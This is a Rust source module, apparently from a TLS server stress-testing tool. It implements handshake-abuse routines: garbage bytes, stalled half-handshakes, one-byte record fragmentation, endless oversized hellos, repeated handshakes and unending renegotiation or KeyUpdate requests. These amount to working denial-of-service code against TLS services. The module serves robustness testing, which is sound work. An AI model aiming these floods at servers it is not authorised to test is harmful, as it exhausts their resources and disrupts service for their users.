//! Abuse of the handshake of TLS.

use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, bail};
use futures_util::FutureExt;
use rustls::ClientConnection;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::yield_now;

use super::client::{Client, name, tls};
use super::ground::Ground;
use super::renegotiation::Renegotiation;

/// Longer than the default of --read-timeout, after which a service gives up a handshake.
const LONG: Duration = Duration::from_secs(30);

/// A record of a handshake, in the version that all clients write (RFC 8446, section 5.1).
const HANDSHAKE: [u8; 3] = [22, 3, 1];

/// The length of a record's header.
const HEADER: usize = 5;

/// The most bytes of a record.
const RECORD: usize = 1 << 14;

/// Sends bytes that are no handshake: at random, a request in the clear, the hello of SSL 2, and an alert.
pub(super) async fn garbage(ground: &Ground, index: usize) -> anyhow::Result<()> {
    let bytes = match index % 4 {
        0 => (0..RECORD).map(|_| fastrand::u8(..)).collect(),
        1 => ground.get("/livez"),
        2 => [&[0x80, 0x2e, 1, 0, 2, 0, 0x15, 0, 0, 0, 0x10][..], &[7; 37]].concat(),
        _ => vec![21, 3, 3, 0, 2, 2, 40],
    };
    let mut client = Client::connect_in_the_clear(ground).await?;
    client.send(&bytes).await?;
    client.drain(LONG).await
}

/// Stops in the middle of a handshake and keeps the connection: in turn, after half of its first message, and after the service's answer to it.
pub(super) async fn half_handshake(ground: &Ground, index: usize) -> anyhow::Result<()> {
    let hello = hello(ground)?;
    let length = if index.is_multiple_of(2) { hello.len() / 2 } else { hello.len() };
    let mut client = Client::connect_in_the_clear(ground).await?;
    client.send(&hello[..length]).await?;
    client.drain(LONG).await
}

/// Sends first messages that are cut into records of one byte, that have no end, and that are as large as a record, in turn.
pub(super) async fn hellos(ground: &Ground, index: usize) -> anyhow::Result<()> {
    let hello = hello(ground)?;
    let mut client = Client::connect_in_the_clear(ground).await?;
    match index % 3 {
        0 => {
            let records: Vec<u8> = hello[HEADER..].iter().flat_map(|byte| record(&[*byte])).collect();
            client.send(&records).await?;
        }
        1 => {
            // It announces 16 MiB.
            client.send(&record(&[1, 0xff, 0xff, 0xff])).await?;
            loop {
                client.send(&record(&[0; RECORD])).await?;
            }
        }
        // Its extensions are zeroes to the end, which is no extension that anybody knows, 65 thousand times.
        _ => client.send(&[record(&padded(&hello[HEADER..])), record(&[0; RECORD])].concat()).await?,
    }
    client.drain(LONG).await
}

/// Handshakes to their end, one after the other.
pub(super) async fn handshakes(ground: &Ground) -> anyhow::Result<()> {
    loop {
        Client::connect(ground).await?;
        ground.toll.answered(200);
    }
}

/// Asks for new keys without end: by renegotiation in TLS 1.2, by `KeyUpdate` in TLS 1.3.
pub(super) async fn new_keys(ground: &Ground, index: usize) -> anyhow::Result<()> {
    if index.is_multiple_of(2) {
        let stream = tls(ground, Arc::new(ground.site.tls12()?)).await?;
        let (mut tcp, session) = stream.into_inner();
        let mut renegotiation = Renegotiation::of(session)?;
        let message = hello(ground)?[HEADER..].to_vec();
        loop {
            tcp.write_all(&renegotiation.record(&message)?).await.inspect_err(|_| ground.toll.closed())?;
        }
    }
    let mut stream = tls(ground, ground.site.tls13()?).await?;
    let mut answers = [0; 1024];
    loop {
        stream.get_mut().1.refresh_traffic_keys()?;
        stream.flush().await.inspect_err(|_| ground.toll.closed())?;
        // The answers are read, so that nothing but the service itself holds it up.
        if stream.read(&mut answers).now_or_never().is_some() {
            ground.toll.closed();
            bail!("the server closed the connection");
        }
        // A task that never waits would leave no time to the other attackers.
        yield_now().await;
    }
}

/// The records of a client's first message.
fn hello(ground: &Ground) -> anyhow::Result<Vec<u8>> {
    let mut session = ClientConnection::new(ground.site.tls13()?, name(ground))?;
    let mut records = Vec::new();
    session.write_tls(&mut records).context("a first message")?;
    Ok(records)
}

fn record(content: &[u8]) -> Vec<u8> {
    [&HANDSHAKE[..], &(content.len() as u16).to_be_bytes(), content].concat()
}

/// A first message with the length of another one that fills a record and more.
fn padded(message: &[u8]) -> Vec<u8> {
    let mut message = message.to_vec();
    message.resize(RECORD, 0);
    let length = (2 * RECORD - 4) as u32;
    message[1..4].copy_from_slice(&length.to_be_bytes()[1..]);
    message
}
